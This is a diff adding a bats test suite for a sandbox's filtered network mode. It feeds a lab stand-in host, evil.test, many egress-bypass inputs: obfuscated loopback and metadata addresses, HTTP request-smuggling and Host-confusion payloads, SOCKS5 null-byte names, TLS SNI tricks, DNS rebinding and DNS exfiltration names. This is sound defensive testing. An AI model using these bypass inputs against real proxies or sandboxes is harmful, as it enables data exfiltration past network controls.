@@ -1,0 +1,362 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: LGPL-2.1-or-later
+# egress.bats - out of net.mode = "filtered" by other ways than net.allow has
+#
+# The host is that of netlab.py. What was reached is what its servers have seen, what its
+# name server was asked, and what they were told: not what the client thinks.
+
+load ../cli/netlab.bash
+: "${srcdir:=$BATS_TEST_DIRNAME/../..}" "${builddir:=$(dirname "$(command -v sbox)")}"
+
+bats_require_minimum_version 1.5.0
+
+setup_file() {
+	export SBOX_LIBEXECDIR=$builddir
+	netlab_begin
+	cp "$srcdir/tests/escape/egress.py" "$LAB/egress.py"
+	touch "$LAB/pid.asked" "$LAB/pid.said"
+}
+
+teardown_file() {
+	netlab_down
+}
+
+teardown() {
+	[ -z "${JOB:-}" ] || kill -KILL "$JOB" 2>/dev/null || true
+}
+
+S=--net=filtered
+BARE=--set=seccomp.base=\"none\"
+NO_LANDLOCK=--set=landlock.mode=\"off\"
+
+# The layers that are not the network's own: all, or none of them.
+modes=("" "$BARE $NO_LANDLOCK" "$BARE $NO_LANDLOCK --set=namespaces.nested=true")
+
+# watched COMMAND...: runs it; $arrived, $asked and $said are what was new outside
+watched() {
+	local seen asked_before said_before
+	seen=$(wc -l <"$LAB/pid.seen")
+	asked_before=$(wc -l <"$LAB/pid.asked")
+	said_before=$(wc -c <"$LAB/pid.said")
+	run "$@"
+	echo "$*: $status: $output"
+	arrived=$(tail -n +$((seen + 1)) "$LAB/pid.seen")
+	asked=$(tail -n +$((asked_before + 1)) "$LAB/pid.asked")
+	said=$(tail -c +$((said_before + 1)) "$LAB/pid.said")
+	[ -z "$arrived" ] || echo "arrived: $arrived"
+	[ -z "$asked" ] || echo "asked: $asked"
+	[ -z "$said" ] || echo "said: $said"
+}
+
+# inside "OPTIONS" ARGUMENTS-OF-egress.py: from a filtered sandbox
+inside() {
+	local options=$1
+	shift
+	# shellcheck disable=SC2086
+	watched box --read="$LAB/egress.py:/egress.py" $S $options -- python3 /egress.py "$@"
+	[ "$status" != 125 ] # there was no sandbox
+}
+
+# outside ARGUMENTS: the same attempt by the host itself, which is the control
+outside() {
+	watched in_lab python3 "$LAB/egress.py" "$@"
+}
+
+# lab_inside "OPTIONS" ARGUMENTS-OF-netlab.py
+lab_inside() {
+	watched client "$S $1" "${@:2}"
+}
+
+# nothing arrived in any mode
+none() {
+	local mode
+	for mode in "${modes[@]}"; do
+		inside "$1 $mode" "${@:2}"
+		[ -z "$arrived$said" ] || { echo "mode: $mode"; return 1; }
+	done
+}
+
+# begin "OPTIONS" COMMAND...: a filtered sandbox in the background; $JOB, and $companion
+begin() {
+	local options=$1
+	shift
+	# shellcheck disable=SC2086
+	exec_in_lab "$SBOX" --read="$LAB/netlab.py:/netlab.py" --read="$LAB/egress.py:/egress.py" \
+		$S $options -- "$@" <"${INPUT:-/dev/null}" >"$BATS_TEST_TMPDIR/out" 2>&1 3>&- &
+	JOB=$!
+	for _ in $(seq 100); do
+		companion=$(pgrep --parent $JOB -x sbox-egress) && grep -q . "$BATS_TEST_TMPDIR/out" && return 0
+		kill -0 $JOB || break
+		sleep 0.1
+	done
+	echo "it did not begin: $(cat "$BATS_TEST_TMPDIR/out")"
+	return 1
+}
+
+@test "E-400 no spelling of an address leads out" {
+	outside forms 80
+	[[ $output == *"answers: 203.0.113.10"*"answers: 0xcb00710a"*"answers: 2001:db8:1::10"*"answers: 169.254.169.254"* ]]
+	none "--net-allow=good.test" forms 80
+	none "--net-allow=good.test --set=net.ipv6=true --set=net.proxy=true" forms 80
+	# no such thing as an address that an entry lists
+	inside "--net-allow=203.0.113.10:80" forms 80
+	[ "$(sort -u <<<"$arrived")" = "203.0.113.10 80 tcp" ]
+	[[ $output == *"answers: 0313.0.0161.012"* ]]
+}
+
+@test "E-401 whatever name server is asked, sbox answers, and nobody outside" {
+	for proto in udp tcp; do
+		for server in 203.0.113.10 198.51.100.1 10.20.0.1; do
+			watched client --net=slirp4netns dns $proto 203.0.113.10 evil.test
+			[[ $asked == evil.test ]]
+			lab_inside --net-allow=good.test dns $proto $server good.test
+			[ "$status" = 0 ] && [[ ${lines[-1]} == 198.18.* ]] && [ -z "$arrived$asked" ]
+			lab_inside --net-allow=good.test dns $proto $server evil.test
+			[ -z "$arrived$asked" ]
+		done
+	done
+}
+
+@test "E-402 a name that is refused or only looked up is asked of nobody" {
+	for name in evil.test sub.good.test good.test.evil.test secret-0123456789.evil.test; do
+		watched client --net=slirp4netns resolve $name
+		[[ $asked == *"$name"* ]]
+		lab_inside --net-allow=good.test resolve $name
+		[ "$status" = 1 ] && [ -z "$arrived$asked" ]
+	done
+	lab_inside "--net-allow=*.good.test" resolve secret.good.test
+	[ "$status" = 0 ] && [ -z "$arrived$asked" ]
+	for kind in 1 2 5 6 12 15 16 28 33 35 64 65 255 252; do
+		inside "--net-allow=*.good.test" dns 203.0.113.10 $kind secret good test
+		[ "$status" = 0 ] && [ -z "$arrived$asked" ]
+	done
+	# at port 80 a request has to come first, at 443 a ClientHello
+	for port in 80 443; do
+		lab_inside "--net-allow=*.good.test" tcp secret.good.test $port
+		[ "${lines[-1]}" = open ] && [ -z "$arrived$asked" ]
+		inside "--net-allow=*.good.test" send secret.good.test $port 'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'
+		[ -z "$arrived$asked$said" ]
+	done
+	inside "--net-allow=*.good.test" tls secret.good.test 443 secret.good.test /host
+	[ "${lines[-1]}" = secret.good.test ] && [[ $asked == *secret.good.test* ]]
+}
+
+@test "E-403 another name at the address of one that is allowed is not reached by TLS" {
+	# a resolver of DNS over HTTPS shares its addresses with half of the world
+	for name in evil.test dns.evil.test good.test.evil.test evil-good.test ood.test; do
+		outside tls 203.0.113.10 443 $name /host
+		[[ $said == *"tls $name"* ]]
+		inside "--net-allow=good.test" tls good.test 443 $name /host
+		[ -z "$said$arrived" ]
+		inside "--net-allow=good.test:8443" tls good.test 8443 $name /host
+		[[ $said != *evil* ]]
+	done
+	inside "--net-allow=good.test" tls good.test 443 good.test /host
+	[ "${lines[-1]}" = good.test ]
+	inside '--net-allow=good.test --set=net.tls="any"' tls good.test 443 evil.test /host
+	[ "${lines[-1]}" = evil.test ]
+	# none, two, an address, and cut in pieces
+	for part in hello: hello:good.test,evil.test hello:evil.test,good.test hello:203.0.113.10 \
+		'hello:good.test\0.evil.test' halves:evil.test; do
+		inside '--net-allow=good.test --set=net.tls="any"' send good.test 443 "$part"
+		[ -n "$said" ] || [[ $output == *'\x15\x03'* ]] # or the server's alert
+		inside "--net-allow=good.test" send good.test 443 "$part"
+		[ -z "$said" ] && [[ $output != *'\x15\x03'* ]]
+	done
+	inside "--net-allow=good.test" send good.test 443 halves:good.test
+	[ -n "$said" ]
+}
+
+# The parts of a connection to net.proxy by SOCKS5
+greeting='\x05\x01\x00'
+by_name() { # by_name NAME PORT-IN-HEX
+	printf '\\x05\\x01\\x00\\x03\\x%02x%s%s' "${#1}" "$1" "$2"
+}
+
+@test "E-404 a client of net.proxy says one name and means another" {
+	P="--set=net.proxy=true --net-allow=good.test"
+	connect='CONNECT good.test:443 HTTP/1.1\r\nHost: good.test:443\r\n\r\n'
+	inside "$P" tls 127.0.0.1 3128 good.test /host "$connect"
+	[ "${lines[-1]}" = good.test ] && [[ $said == *"tls good.test"* ]]
+	inside "$P" tls 127.0.0.1 3128 good.test /host "$greeting" "$(by_name good.test '\x01\xbb')"
+	[ "${lines[-1]}" = good.test ]
+	inside "$P --set=net.tls=\"any\"" tls 127.0.0.1 3128 evil.test /host "$connect"
+	[ "${lines[-1]}" = evil.test ]
+	for name in evil.test ""; do
+		inside "$P" tls 127.0.0.1 3128 "$name" /host "$connect"
+		[ -z "$said" ]
+		inside "$P" tls 127.0.0.1 3128 "$name" /host "$greeting" "$(by_name good.test '\x01\xbb')"
+		[ -z "$said" ]
+	done
+	# plain HTTP through a tunnel, to port 80 and to 443
+	inside "$P" send 127.0.0.1 3128 'CONNECT good.test:80 HTTP/1.1\r\n\r\n' 'GET /host HTTP/1.1\r\nHost: good.test\r\n\r\n'
+	[[ $said == *"http good.test /host"* ]]
+	inside "$P" send 127.0.0.1 3128 'CONNECT good.test:80 HTTP/1.1\r\n\r\n' 'GET /host HTTP/1.1\r\nHost: evil.test\r\n\r\n'
+	[ -z "$said" ]
+	inside "$P" send 127.0.0.1 3128 'CONNECT good.test:80 HTTP/1.1\r\n\r\nGET /host HTTP/1.1\r\nHost: evil.test\r\n\r\n'
+	[ -z "$said" ]
+	inside "$P" send 127.0.0.1 3128 "$greeting$(by_name good.test '\x00\x50')GET /host HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"
+	[ -z "$said" ]
+	# the client speaks first, without waiting, and that is not lost
+	inside "$P" send 127.0.0.1 3128 "$greeting$(by_name good.test '\x00\x50')GET /host HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n" ''
+	[[ $said == *"http good.test /host"* ]]
+}
+
+@test "E-405 a client of net.proxy gets nowhere that net.allow does not list" {
+	P="--set=net.proxy=true --net-allow=good.test"
+	for to in evil.test:443 good.test:22 good.test:25 203.0.113.10:80 127.0.0.1:7001 '[::1]:7004' 198.51.100.2:7004 \
+		2130706433:7001 0x7f000001:7001 127.1:7001 '[::ffff:127.0.0.1]:7001' '[::ffff:203.0.113.10]:80' \
+		0.0.0.0:7004 'good.test\x00.evil.test:443' 'evil.test\x00.good.test:443' 'good.test@evil.test:443' \
+		'good.test%00.evil.test:443' localhost:7001 good.test:3128 '[good.test]:443' 'good.test#.evil.test:443'; do
+		inside "$P" send 127.0.0.1 3128 "CONNECT $to HTTP/1.1\\r\\n\\r\\n" 'GET /raw HTTP/1.1\r\nHost: good.test\r\n\r\n'
+		[ -z "$arrived$said$asked" ] && [[ $output != *"200 Connection"* ]]
+	done
+	for name in evil.test '127.0.0.1' '2130706433' '::1' '[::1]' 'evil.test.' 'good.test..' '.good.test' '*.test' ''; do
+		inside "$P" send 127.0.0.1 3128 "$greeting" "$(by_name "$name" '\x00\x50')" 'GET /raw HTTP/1.1\r\nHost: good.test\r\n\r\n'
+		[ -z "$arrived$said$asked" ] && [[ $output != *'\x05\x00\x00'* ]]
+	done
+	for address in '\x01\x7f\x00\x00\x01' '\x01\xcb\x00\x71\x0a' '\x04\0\0\0\0\0\0\0\0\0\0\xff\xff\x7f\0\0\x01' \
+		'\x03\x0fevil.test\0.good' '\x03\x13evil.test\0.good.test' '\x03\x13good.test\0.evil.test'; do
+		inside "$P" send 127.0.0.1 3128 "$greeting" "\\x05\\x01\\x00$address\\x00\\x50" 'GET /raw HTTP/1.1\r\nHost: good.test\r\n\r\n'
+		[ -z "$arrived$said$asked" ] && [[ $output != *'\x05\x00\x00'* ]]
+	done
+	# BIND, UDP ASSOCIATE, and without the proxy nobody is there
+	for command in 2 3; do
+		inside "$P" send 127.0.0.1 3128 "$greeting" "\\x05\\x0$command\\x00\\x01\\xcb\\x00\\x71\\x0a\\x00\\x50"
+		[ -z "$arrived" ] && [[ $output != *'\x05\x00\x00'* ]]
+	done
+	inside "--net-allow=good.test" send 127.0.0.1 3128 'CONNECT good.test:80 HTTP/1.1\r\n\r\n'
+	[[ $output == *refused* ]]
+	inside "$P" send 127.0.0.1 3128 "CONNECT GOOD.test.:80 HTTP/1.1\\r\\n\\r\\n" 'GET /raw HTTP/1.1\r\nHost: good.test\r\n\r\n'
+	[ "$said" != "" ]
+}
+
+@test "E-406 each request says the name that was connected to" {
+	A=--net-allow=good.test
+	raw='GET /raw HTTP/1.1\r\nHost: good.test\r\n\r\n'
+	evil='GET /evil HTTP/1.1\r\nHost: evil.test\r\n\r\n'
+	outside send 203.0.113.10 80 "$evil"
+	[[ $said == *"http evil.test /evil"* ]]
+	outside send 203.0.113.10 80 "$raw" "$evil"
+	[[ $said == *"GET /evil"* ]]
+	inside $A send good.test 80 "$raw" 'GET /again HTTP/1.1\r\nHost: GOOD.test:80\r\n\r\n'
+	[[ $said == *"GET /again"* ]]
+	inside $A send good.test 80 'GET http://good.test/host HTTP/1.1\r\nHost: good.test\r\n\r\n'
+	[ -n "$said" ]
+	for first in 'GET /evil HTTP/1.1\r\n\r\n' 'GET /evil HTTP/1.1\r\nHost: evil.test\r\n\r\n' \
+		'GET /evil HTTP/1.1\r\nHost:evil.test\r\nHost: good.test\r\n\r\n' \
+		'GET /evil HTTP/1.1\r\nHost: good.test\r\nHost: evil.test\r\n\r\n' \
+		'GET /evil HTTP/1.1\r\nHost: good.test\r\n Host: evil.test\r\n\r\n' \
+		'GET /evil HTTP/1.1\r\nHost : evil.test\r\nHost: good.test\r\n\r\n' \
+		'GET /evil HTTP/1.1\nHost: evil.test\n\n' 'GET /evil HTTP/1.1\r\nX: \nHost: evil.test\r\nHost: good.test\r\n\r\n' \
+		'GET /evil HTTP/1.1\r\nX: \rHost: evil.test\r\nHost: good.test\r\n\r\n' \
+		'GET http://evil.test/evil HTTP/1.1\r\nHost: good.test\r\n\r\n' \
+		'GET https://evil.test/evil HTTP/1.1\r\nHost: good.test\r\n\r\n' \
+		'GET http://good.test@evil.test/evil HTTP/1.1\r\nHost: good.test\r\n\r\n' \
+		'GET //evil.test HTTP/1.1\r\nHost: evil.test\r\n\r\n' 'GET /evil\r\n' 'GET /evil HTTP/0.9\r\n\r\n' \
+		'CONNECT evil.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n' 'CONNECT good.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n' \
+		'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' 'GET /evil HTTP/1.1\r\nHost: good.test:8080\r\n\r\n' \
+		'GET /evil HTTP/1.1\r\nHost: good.test, evil.test\r\n\r\n' 'GET /evil HTTP/1.1\r\nHost: good.test\x00.evil.test\r\n\r\n' \
+		'GET /evil HTTP/1.1\r\nHost: good.test\x0b\r\n\r\n' 'GET /evil HTTP/1.1\r\nH\x6fst\x00: good.test\r\nHost: good.test\r\n\r\n' \
+		'\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil.test\r\n\r\n' 'SSH-2.0-x\r\n\r\n' hello:good.test; do
+		# alone nothing leaves, not even the question for the name
+		inside $A send good.test 80 "$first"
+		[ -z "$said$asked$arrived" ]
+		# and not behind a good one either, in one piece with it or in the next
+		inside $A send good.test 80 "$raw" "$first"
+		[[ $said == *"good.test /raw"* ]] && [[ $said != *evil* && $said != *CONNECT* && $said != *PRI* && $said != *SSH* ]]
+		[[ $first == hello:* ]] || inside $A send good.test 80 "$raw$first"
+		[[ $said == *"good.test /raw"* ]] && [[ $said != *evil* && $said != *CONNECT* && $said != *PRI* && $said != *SSH* ]]
+	done
+}
+
+@test "E-407 a body hides no request" {
+	A=--net-allow=good.test
+	evil='GET /evil HTTP/1.1\r\nHost: evil.test\r\n\r\n'
+	post='POST /raw HTTP/1.1\r\nHost: good.test\r\n'
+	outside send 203.0.113.10 80 "${post}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n$evil"
+	[[ $said == *"GET /evil"* ]]
+	# what is within the body passes, since nobody takes it for a request
+	inside $A send good.test 80 "${post}Content-Length: 5\r\n\r\nabcde" 'GET /again HTTP/1.1\r\nHost: good.test\r\n\r\n'
+	[[ $said == *abcde*/again* ]]
+	inside $A send good.test 80 "${post}Transfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\n" '0\r\n\r\nGET /again HTTP/1.1\r\nHost: good.test\r\n\r\n'
+	[[ $said == *abcde*/again* ]]
+	for way in 'Content-Length: 0\r\n\r\n' 'Content-Length: 5\r\n\r\nabcde' 'Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n' \
+		'Content-Length: 900\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' \
+		'Transfer-Encoding: chunked\r\nContent-Length: 900\r\n\r\n0\r\n\r\n' \
+		'Content-Length: 0\r\nContent-Length: 900\r\n\r\n' 'Content-Length: 0, 900\r\n\r\n' 'Content-Length: +900\r\n\r\n' \
+		'Content-Length: 0x384\r\n\r\n' 'Content-Length: 18446744073709551616\r\n\r\n' 'Content-Length: -1\r\n\r\n' \
+		'Content-Length : 900\r\n\r\n' 'Content_Length: 900\r\n\r\n' 'Transfer-Encoding: identity\r\nContent-Length: 900\r\n\r\n' \
+		'Transfer-Encoding: xchunked\r\n\r\n384\r\n' 'Transfer-Encoding: chunked, identity\r\n\r\n384\r\n' \
+		'Transfer-Encoding:\x0bchunked\r\n\r\n384\r\n' 'Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n384\r\n' \
+		'Transfer-Encoding: chunked\r\n\r\n384 \r\n' 'Transfer-Encoding: chunked\r\n\r\n0x384\r\n' \
+		'Transfer-Encoding: chunked\r\n\r\n384;\r\n' 'Transfer-Encoding: chunked\r\n\r\n384\n' 'Transfer-Encoding: chunked\r\n\r\n384;a="\r\n' \
+		'Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n' 'Transfer-Encoding: chunked\r\n\r\n1\r\nab' \
+		'Transfer-Encoding: chunked\r\n\r\n0\r\nX: y\r\n\r\n'; do
+		inside $A send good.test 80 "$post$way$evil"
+		[[ $said != *evil* ]]
+		inside $A send good.test 80 "$post$way" "$evil"
+		[[ $said != *evil* ]]
+	done
+}
+
+@test "E-410 a name that leads to the host, its network or its loopback leads nowhere" {
+	[ ! -e "$LAB/pid.late" ]
+	for port in 7001 7002 7004; do
+		outside send 127.0.0.1 $port 'GET / HTTP/1.0\r\n\r\n'
+		[ -n "$said" ] || [ $port = 7002 ]
+	done
+	A="--net-allow=*.test:80,7001,7002,7004,9999 --net-allow=udp:*.test:9999 --set=net.ipv6=true"
+	for name in loopback zero host private metadata loopback6 any6 mapped compatible nat64 6to4 host6 link6 \
+		multicast broadcast; do
+		for port in 80 7001 7002 7004; do
+			inside "$A" send $name.test $port 'GET / HTTP/1.0\r\nHost: '$name.test'\r\n\r\n'
+			[ -z "$said" ] && [[ $asked == *$name.test* ]]
+		done
+		lab_inside "$A" udp $name.test 9999
+		[[ $arrived != *9999* ]]
+	done
+	# of what is private an entry opens just that
+	inside "$A --net-allow=10.20.0.1:80" send private.test 80 'GET / HTTP/1.0\r\nHost: private.test\r\n\r\n'
+	[[ $said == *private.test* ]]
+	inside "$A --net-allow=198.51.100.2:7002" send host.test 7002 'GET / HTTP/1.0\r\n\r\n'
+	[ -n "$said" ]
+	inside "$A --net-allow=10.20.0.1:80 --net-deny=10.0.0.0/8" send private.test 80 'GET / HTTP/1.0\r\nHost: private.test\r\n\r\n'
+	[ -z "$said" ]
+}
+
+@test "E-412 what a name leads to is judged with each connection" {
+	A=--net-allow=rebinds.test:7001
+	# the first answer is a public address, where nobody listens; all later ones are 127.0.0.1
+	watched box --read="$LAB/egress.py:/egress.py" $S $A -- sh -c '
+		python3 /egress.py send rebinds.test 7001 "GET / HTTP/1.0\r\n\r\n"; sleep 5.5
+		python3 /egress.py send rebinds.test 7001 "GET / HTTP/1.0\r\n\r\n"'
+	[ -z "$said" ] && [ "$(grep -c rebinds <<<"$asked")" -ge 3 ]
+	outside send rebinds.test 7001 'GET / HTTP/1.0\r\n\r\n'
+	[ -n "$said" ]
+}
+
+@test "E-413 an address that the host gets later is its own as well" {
+	[ ! -e "$LAB/pid.late" ]
+	mkfifo "$BATS_TEST_TMPDIR/go"
+	late='GET /late HTTP/1.0\r\n\r\n'
+	INPUT="$BATS_TEST_TMPDIR/go"
+	exec 9<>"$INPUT"
+	begin "--net-allow=late.test:7004 --net-allow=dead-then-late.test:7004" sh -c '
+		echo ready; read -r _
+		for name in late dead-then-late; do python3 /egress.py send $name.test 7004 "GET /late HTTP/1.0\r\n\r\n"; done'
+	touch "$LAB/pid.late"
+	for _ in $(seq 50); do
+		in_lab ip addr show dev lo | grep -q 198.51.100.77 && break
+		sleep 0.1
+	done
+	finish() { echo go >&9; wait $JOB || true; cat "$BATS_TEST_TMPDIR/out"; }
+	watched finish
+	exec 9>&-
+	[[ $asked == *dead-then-late.test* ]] && [ -z "$said" ]
+	# the way is there
+	outside send late.test 7004 "$late"
+	[ -n "$said" ]
+	inside "--net-allow=late.test:7004 --net-allow=198.51.100.77:7004" send late.test 7004 "$late"
+	[ -n "$said" ]
+}
